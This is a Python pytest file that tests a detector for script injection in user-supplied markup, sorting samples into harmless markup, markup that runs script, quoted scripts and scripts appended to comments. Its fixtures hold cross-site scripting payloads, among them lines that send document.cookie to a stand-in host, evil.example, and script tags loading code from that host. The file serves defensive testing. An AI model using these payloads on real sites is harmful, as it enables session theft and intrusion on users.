"""Markup that looks like script and runs none, the same with a script in it, and scripts shown to people."""

import pytest

from worker.security.detect.table import Detectors

THRESHOLD = 5

FILM = '<iframe width="560" height="315" src="https://video.example/1" title="Film" allowfullscreen></iframe>'

IDLE = [
    FILM,
    '<p>Map:</p><iframe src="https://map.example/?pb=1" width="600" height="450" style="border:0;"></iframe>',
    '<object data="https://example.org/a.pdf" type="application/pdf" width="100%" height="600"></object>',
    "<iframe>",
    "<iframe src> not loading",
    '<script type="application/ld+json">{"name":"Jo"}</script>',
    '<p onselectstart="return false" style="user-select: none">No copying!</p>',
    '<a href="/delete" onclick="return confirm(\'Really?\')">Delete</a>',
    '<img src="a.jpg" onerror="this.onerror=null;this.src=\'/default.png\'">',
    "const B = () => <button onClick={() => save(1)}>Save</button>",
    "<Button onClick={save}>Save</Button>",
    '<body onload="init()"><button onclick="add(this, 5); return false;">Add</button></body>',
    "<iframe src='//video.example/1' width='425' height='350'></iframe>",
    '<a href="javascript:void(0)">Menu</a>',
    "javascript:void(0) meaning",
    "javascript: links are bad style, and so are these.",
    "alert(1) not working",
    "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
    '<p><code>&lt;img src="x" onerror="alert(1)"&gt;</code> is the usual test.</p>',
    '<select name="size"><option value="s">S</option></select>',
    '<a href="#" @click.prevent="show = !show" :class="{ active: show }">Toggle</a>',
]

RUNS = [
    FILM.replace("https://video.example/1", "javascript:alert(1)"),
    FILM.replace("title=", "onload=alert(1) title="),
    FILM.replace("title=", 'srcdoc="<b>" title='),
    '<iframe src="http://evil.example/">',
    "<iframe src=//evil.example width=1 height=1>",
    '<script type="text/javascript">alert(1)</script>',
    '<script type="text/x-javascript">alert(1)</script>',
    "<a onclick=\"return confirm('Really?') && steal()\">x</a>",
    "<img onerror=\"this.src='//evil.example/?'+document.cookie\">",
    '<p onclick="return false" onmouseover="alert(1)">x</p>',
    "<b onClick={x}alert(1)>",
    '<b onclick="eval(name)">x</b>',
    "<b onclick=\"add('<img src=x onerror=alert(1)>')\">x</b>",
    '<b onclick="add(this); alert(1)">x</b>',
    "javascript:void(0);alert(1)",
    "javascript: alert(1)",
    "<object><param name=url value=javascript:alert(1)></object>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[click](javascript:alert(1))",
    '<div x-init="alert(1)"></div>',
]

SHOWN = [
    "In the workshop we exploit a comment box with <script>alert(1)</script>, then fix it with escaping.",
    "Use a page break: `<iframe src=x onload=alert(1)>` is refused.",
    "```html\n<script src=\"https://cdn.example/vue.js\"></script>\n```",
    "--- a.html\n+++ b.html\n@@ -1 +1 @@\n-<script src=\"a.js\"></script>\n+<script src=\"b.js\"></script>",
    '[12/Mar/2024 06:25:14] "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 4523',
    "XSS in comment field: <svg onload=alert(1)>",
    "fix(ui): refuse <script>alert(1)</script>",
    'My function is called twice: once by onclick="alert(1)" and once by addEventListener.',
    'The hacker has added <script src="//evil.example/c.js"></script> to all pages. How do I get rid of it?',
]  # fmt: skip

ADDED = [
    "Nice shop! <script src=https://evil.example/c.js></script>",
    "Nice shop! <script>new Image().src='//evil.example/'+document.cookie</script> Thanks for it.",
    "Great article, and it was of use to me. <img src=x onerror=alert(1)>",
    "x`<script>alert(1)</script>`",
    "<script>alert`1`</script>",
    "--- <script>alert(1)</script>",
]


@pytest.fixture(scope="module")
def detectors() -> Detectors:
    return Detectors()


def score(detectors: Detectors, text: str) -> int:
    return sum(found.score for found in detectors.findings(text.encode()))


@pytest.mark.parametrize("text", IDLE)
def test_markup_that_runs_nothing_is_no_finding(detectors: Detectors, text: str) -> None:
    assert score(detectors, text) == 0


@pytest.mark.parametrize("text", RUNS)
def test_markup_of_the_same_look_that_runs_something_is_refused(detectors: Detectors, text: str) -> None:
    assert score(detectors, text) >= THRESHOLD


@pytest.mark.parametrize("text", SHOWN)
def test_a_script_that_is_shown_is_a_warning(detectors: Detectors, text: str) -> None:
    assert score(detectors, text) == 3


@pytest.mark.parametrize("text", ADDED)
def test_a_script_at_the_end_of_what_is_said_or_set_on_its_own_is_refused(
    detectors: Detectors, text: str
) -> None:
    assert score(detectors, text) >= THRESHOLD
